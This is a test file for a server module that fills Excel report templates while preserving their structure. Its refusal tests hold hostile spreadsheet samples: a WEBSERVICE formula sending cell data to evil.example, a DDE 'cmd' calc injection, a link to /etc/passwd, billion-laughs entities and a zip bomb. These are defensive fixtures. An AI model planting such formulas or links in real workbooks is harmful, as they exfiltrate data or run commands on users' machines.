import { readFile } from 'node:fs/promises';
import { describe, expect, it, test } from 'vitest';
import { readWorkbook } from '#server/workbook/read.ts';
import { Parts } from '#server/workbook/xlsx.ts';
import { WorkbookRefused } from '#server/workbook/refused.ts';
import { fillBook } from '#server/workbook/fill/fillBook.ts';
import { readFillSheets, toGrid } from '#server/workbook/fill/grid.ts';
import { openBook, TEMPLATE_LIMITS } from '#server/workbook/fill/openBook.ts';
import { referenceReader } from '#testing/files/referenceReader.ts';
import { workbookOf, workbookParts, zipOf } from '#testing/files/workbook.ts';

/** A form with merged heads, formulas, percent formats and a print area, written by LibreOffice. */
const bureauForm = () => readFile(new URL('../../../testing/files/bureauForm.xlsx', import.meta.url));
const source = { name: '数据来源', widths: [12, 20], rows: [['数据来源'], ['应测', 1200]] };
const first = 'xl/worksheets/sheet1.xml';

async function partsOf(bytes: Buffer): Promise<Map<string, string>> {
  const zip = await Parts.open(bytes);
  return new Map(
    await Promise.all(zip.names.map(async (name) => [name, (await zip.read(name)).content.toString('latin1')] as const)),
  );
}

async function refusal(bytes: Buffer, filename = '月报表.xlsx'): Promise<string> {
  const error: unknown = await openBook(bytes, filename).then(
    () => undefined,
    (caught: unknown) => caught,
  );
  expect(error).toBeInstanceOf(WorkbookRefused);
  return (error as WorkbookRefused).message;
}

describe('filling a bureau’s form', () => {
  const values = new Map<string, number | string>([
    ['B5', 1200],
    ['C5', 1140],
    ['D5', 0.95],
    ['B6', 800],
    ['C6', 800],
    ['F5', '<5'],
    ['B2', '=云栖市教育局'],
  ]);

  test('changes the chosen cells, the stored results of formulas and nothing else of the sheet', async () => {
    const before = await bureauForm();
    const after = await fillBook(await openBook(before, 'a.xlsx'), new Map([[first, values]]), source);
    const [old, filled] = [(await partsOf(before)).get(first)!, (await partsOf(after)).get(first)!];
    // The chosen cells and the results of formulas are taken out of both sheets; the rest is the same text.
    const rest = (xml: string) =>
      xml
        .replace(/<c r="(?:B5|C5|D5|B6|C6|F5|B2)"(?:[^>]*\/>|[\s\S]*?<\/c>)/g, '')
        .replace(/(<f[^>]*>[^<]*<\/f>)<v>[^<]*<\/v>/g, '$1');
    expect(rest(filled)).toBe(rest(old));
    expect(filled).toContain('<c r="B5" s="2"><v>1200</v></c>');
    expect(filled).toContain('<c r="F5" s="2" t="inlineStr"><is><t>&lt;5</t></is></c>');
  });

  test('leaves every other part byte for byte, but those that must name the added sheet and the formulas', async () => {
    const before = await partsOf(await bureauForm());
    const after = await partsOf(await fillBook(await openBook(await bureauForm(), 'a.xlsx'), new Map([[first, values]]), source));
    const changed = [...after].filter(([name, content]) => before.get(name) !== content).map(([name]) => name);
    expect(changed.sort()).toEqual([
      '[Content_Types].xml',
      'xl/_rels/workbook.xml.rels',
      'xl/workbook.xml',
      first,
      // Its formulas read the first sheet; their stored results are left out.
      'xl/worksheets/sheet2.xml',
      'xl/worksheets/source1.xml',
    ]);
    expect([...before.keys()].filter((name) => !after.has(name))).toEqual([]);
    // The changed parts only gain an element or an attribute.
    expect(
      after
        .get('xl/workbook.xml')!
        .replace(/<sheet name="[^"]*" sheetId="3"[^>]*>/, '')
        .replace(' fullCalcOnLoad="1"', ''),
    ).toBe(before.get('xl/workbook.xml'));
  });

  test('is read by the product and by another program, with formulas calculated from the new numbers', async () => {
    const filled = await fillBook(await openBook(await bureauForm(), 'a.xlsx'), new Map([[first, values]]), source);
    const own = await readWorkbook(filled, 'a.xlsx');
    expect(own.rows[4]).toEqual(['云栖市晨光中学', '1200', '1140', '0.95', '', '<5', '', '上学期 =1+1 手工填写']);
    expect(own.others?.map(({ sheetname }) => sheetname)).toEqual(['分年级', '数据来源']);
    expect(own.others?.[1]?.rows).toEqual([['数据来源'], ['应测', '1200']]);
    const { name, read } = referenceReader();
    console.log(`${name} reads the filled form`);
    if (name.endsWith('.ts')) {
      // Without LibreOffice nothing calculates: no formula has a stored result, and the file asks for the calculation.
      expect((await partsOf(filled)).get(first)).not.toMatch(/<\/f><v>/);
      expect((await partsOf(filled)).get('xl/workbook.xml')).toMatch(/<calcPr[^>]*fullCalcOnLoad="1"/);
      return;
    }
    const rows = (await read(new Map([['form', filled]]))).get('form')!;
    expect(rows[1]?.[1]).toBe("'=云栖市教育局");
    expect(rows[4]?.slice(0, 4)).toEqual(['云栖市晨光中学', '1200', '1140', '95%']);
    expect(rows[7]?.slice(0, 4)).toEqual(['合计', '2000', '1940', '97%']);
  });

  test('adds cells and rows that the file does not have, in the style of their row or column', async () => {
    const sparse = await workbookOf(
      '<row r="2" spans="1:1"><c r="A2" t="str"><v>甲</v></c><c r="D2"><v>4</v></c></row><row r="5" s="3" customFormat="1"/>',
      {},
    );
    const book = await openBook(sparse, 'a.xlsx');
    const added = new Map<string, number | string>([
      ['B2', 2],
      ['E2', 5],
      ['A3', '新'],
      ['C5', 7],
      ['A9', 9],
    ]);
    const sheet = (await partsOf(await fillBook(book, new Map([[first, added]]), source))).get(first)!;
    expect(Buffer.from(sheet, 'latin1').toString('utf8')).toContain(
      '<row r="2"><c r="A2" t="str"><v>甲</v></c><c r="B2"><v>2</v></c><c r="D2"><v>4</v></c><c r="E2"><v>5</v></c></row>' +
        '<row r="3"><c r="A3" t="inlineStr"><is><t>新</t></is></c></row>' +
        '<row r="5" s="3" customFormat="1"><c r="C5" s="3"><v>7</v></c></row><row r="9"><c r="A9"><v>9</v></c></row></sheetData>',
    );
  });

  test('can be repeated: a filled form is a template again, and its added sheet gets another name', async () => {
    const once = await fillBook(await openBook(await bureauForm(), 'a.xlsx'), new Map([[first, values]]), source);
    const twice = await fillBook(await openBook(once, 'a.xlsx'), new Map([[first, new Map([['B5', 5]])]]), source);
    const content = await readWorkbook(twice, 'a.xlsx');
    expect(content.rows[4]?.slice(0, 3)).toEqual(['云栖市晨光中学', '5', '1140']);
    expect(content.others?.map(({ sheetname }) => sheetname)).toEqual(['分年级', '数据来源', '数据来源2']);
  });
});

test('a template is drawn with its merged cells, widths, formulas and percent formats', async () => {
  const [sheet, grades] = await readFillSheets(await openBook(await bureauForm(), 'a.xlsx'));
  const grid = toGrid(sheet!);
  expect([grid.sheetname, grades?.sheetname]).toEqual(['汇总', '分年级']);
  expect(grid.widths.map(Math.round)).toEqual([31, 11, 11, 11, 11, 11, 11, 11]);
  expect(grid.rows[0]?.cells).toEqual([
    { ref: 'A1', text: '云栖市中小学心理健康监测情况报表', colspan: 8, rowspan: 1, isFormula: false },
  ]);
  expect(grid.rows[2]?.cells.map(({ ref, colspan, rowspan }) => [ref, colspan, rowspan])).toEqual([
    ['A3', 1, 2],
    ['B3', 3, 1],
    ['E3', 4, 1],
  ]);
  expect(grid.rows[7]?.cells.filter(({ isFormula }) => isFormula).map(({ ref }) => ref)).toEqual(['B8', 'C8', 'D8', 'E8', 'F8']);
  expect(sheet?.percents.has('D5')).toBe(true);
  expect(sheet?.percents.has('C5')).toBe(false);
});

describe('a template is refused, with the reason, when', () => {
  const ROW = '<row><c t="str"><v>表</v></c></row>';

  it('has more than 1 MB, or parts that expand to more than 16 MB', async () => {
    expect(await refusal(Buffer.concat([await bureauForm(), Buffer.alloc(TEMPLATE_LIMITS.bytes)]))).toMatch(/1 MB/);
    const bomb = await zipOf({ ...workbookParts(ROW), 'xl/media/a.bin': Buffer.alloc(TEMPLATE_LIMITS.inflated + 1) });
    expect(bomb.length).toBeLessThan(TEMPLATE_LIMITS.bytes);
    expect(await refusal(bomb)).toMatch(/内容过多/);
  });

  it('is no xlsx file', async () => {
    expect(await refusal(Buffer.from('a,b'), 'a.csv')).toMatch(/\.xlsx/);
    expect(await refusal(Buffer.from('%PDF-1.7'), 'a.xlsx')).toMatch(/xlsx/);
  });

  it('has macros', async () => {
    expect(await refusal(await zipOf({ ...workbookParts(ROW), 'xl/vbaProject.bin': 'x' }))).toMatch(/宏/);
    expect(await refusal(await workbookOf(ROW, { type: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml' }))).toMatch(/宏/);
    expect(await refusal(await zipOf({ ...workbookParts(ROW), 'xl/macrosheets/sheet1.xml': '<a/>' }))).toMatch(/宏/);
  });

  it('links to other files, data or objects', async () => {
    expect(await refusal(await zipOf({ ...workbookParts(ROW), 'xl/externalLinks/externalLink1.xml': '<a/>' }))).toMatch(
      /断开链接/,
    );
    expect(await refusal(await zipOf({ ...workbookParts(ROW), 'xl/connections.xml': '<a/>' }))).toMatch(/外部数据/);
    expect(await refusal(await zipOf({ ...workbookParts(ROW), 'xl/embeddings/oleObject1.bin': 'x' }))).toMatch(/对象或控件/);
    const rels = (type: string, target: string) =>
      `<Relationships><Relationship Id="r9" Type="x/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
    const withRels = async (xml: string) => zipOf({ ...workbookParts(ROW), 'xl/worksheets/_rels/sheet1.xml.rels': xml });
    expect(await refusal(await withRels(rels('image', 'http://evil.example/a.png')))).toMatch(/外部文件/);
    expect(await refusal(await withRels(rels('hyperlink', 'file:///etc/passwd')))).toMatch(/外部文件/);
    await openBook(await withRels(rels('hyperlink', 'https://www.moe.gov.cn')), 'a.xlsx');
  });

  it('has a formula that fetches data or runs a program', async () => {
    for (const formula of [
      'WEBSERVICE(&quot;http://evil.example/?&quot;&amp;B5)',
      "cmd|' /C calc'!A0",
      '[1]Sheet1!A1',
      'IMPORTXML(&quot;x&quot;,&quot;y&quot;)',
    ])
      expect(await refusal(await workbookOf(`<row><c><f>${formula}</f><v>0</v></c></row>`))).toMatch(/公式会读取外部数据/);
    await openBook(await workbookOf('<row><c><f>SUM(B1:B3)&amp;&quot;a|b!&quot;</f><v>0</v></c></row>'), 'a.xlsx');
  });

  it('has a document type declaration in any part, or broken XML', async () => {
    const parts = workbookParts(ROW);
    const laughs = '<!DOCTYPE worksheet [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>';
    expect(await refusal(await zipOf({ ...parts, [first]: laughs + parts[first]! }))).toMatch(/DTD/);
    expect(await refusal(await zipOf({ ...parts, 'docProps/app.xml': `${laughs}<a/>` }))).toMatch(/DTD/);
    expect(await refusal(await zipOf({ ...parts, [first]: '<worksheet><sheetData><row>' }))).toMatch(/损坏/);
    expect(await refusal(await zipOf({ ...parts, 'XL/workbook.xml': '<a/>' }))).toMatch(/损坏/);
  });
});
